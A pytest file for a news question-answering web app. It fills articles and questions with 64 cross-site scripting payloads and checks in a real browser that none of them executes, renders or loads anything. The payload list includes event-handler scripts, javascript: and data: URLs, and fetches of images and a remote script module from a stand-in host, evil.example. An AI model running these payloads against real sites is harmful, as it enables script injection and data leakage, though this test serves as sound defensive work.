"""Sixty-four hostile texts in a title, a body, a byline, a publisher, an address and the question, through the page in a browser."""

# ruff: noqa: F811 - a fixture that is used has the name of the one imported

from __future__ import annotations

from collections.abc import Iterator

import pytest

from index import Article, Corpus
from qa.newsqa import NewsQA
from tests.browser import Browser, serve, visit
from tests.page.test_browser import browser  # noqa: F401
from tests.page.test_page import PAYLOADS

pytestmark = pytest.mark.slow

MORE = [
    "<img src=https://evil.example/a.png>",
    "<img srcset='https://evil.example/b.png 1x'>",
    "<picture><source srcset=//evil.example/c.png></picture>",
    "<audio src=//evil.example/d.mp3 autoplay></audio>",
    "<video poster=//evil.example/e.png></video>",
    "<div style=\"background:url('//evil.example/f.png')\">x</div>",
    "<table background=//evil.example/g.png>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<image href=//evil.example/h.svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<script type=module>import '//evil.example/i.js'</script>",
    "<frameset onload=alert(1)>",
    "<portal src=//evil.example>",
    "javascript:alert(1)//",
]
HOSTILE = [p for p in PAYLOADS + MORE if "\ud800" not in p]
ADDRESSES = ("javascript:alert({})//{}", "data:text/html,{}{}", "https://ok.example/{}?q={}", "//evil.example/{}/{}")
TOGETHER = 3  # questions in one conversation: a long one is slow to show again and again


def word(n: int) -> str:
    """A name that only the n-th article has."""
    return "Quorv" + "".join("abcdefghij"[int(digit)] for digit in f"{n:02}") + "ix"


def article(n: int, payload: str) -> Article:
    payload = payload.replace("alert(1)", "window.hacked=1").replace("\x00", "")
    return Article.of(
        f"{payload} The {word(n)} bridge opens",
        f"The {word(n)} bridge cost {n + 100} million crowns {payload} to build, said the mayor.\n\n{payload}\n\n"
        f"The {word(n)} bridge {payload} opened on Tuesday.",
        publisher=f"Gazette {payload}",
        byline=payload,
        url=ADDRESSES[n % len(ADDRESSES)].format(n, payload),
        published=1136073600 + n,
    )


@pytest.fixture(scope="module")
def hostile_address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with Corpus.open(tmp_path_factory.mktemp("hostile")) as corpus:
        corpus.add([article(n, payload) for n, payload in enumerate(HOSTILE)])
        yield from serve(NewsQA(corpus))


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 60


def test_nothing_hostile_runs_or_calls_out(browser: Browser, hostile_address: str) -> None:
    shown = 0
    for visited in visit(browser, hostile_address, reduced_motion="reduce"):  # the article beside it opens at once
        page = visited.page
        for n, payload in enumerate(HOSTILE):
            question = f"How much did the {word(n)} bridge cost {payload}?".replace("\n", " ").replace("\x00", "")
            if n and n % TOGETHER == 0:
                page.click("#clear")
                page.locator(".exchange").first.wait_for(state="detached")
            answer = visited.ask(question, n % TOGETHER + 1)
            source = answer.locator(".open, .mark").first
            if source.count():
                source.click()
                page.locator("#reader .body").wait_for()
                assert word(n) in page.inner_text("#reader")
                if payload.isascii() and payload.isprintable():
                    plain = payload.replace("alert(1)", "window.hacked=1")
                    assert plain in page.locator("#reader .body").text_content()
                shown += 1
                links = page.locator("#reader a").evaluate_all("all => all.map(a => a.href)")
                assert all(link.startswith("https://ok.example/") for link in links)
                page.keyboard.press("Escape")
            assert (
                page.locator("#history :is(img, svg, script, iframe, style, a), #current :is(img, svg, a)").count() == 0
            )
        page.click("#filters summary")  # publishers stand there too
        page.locator(".kept summary").click()  # and questions there
        page.wait_for_timeout(500)
        assert page.evaluate("typeof window.hacked") == "undefined"
    assert shown >= 60
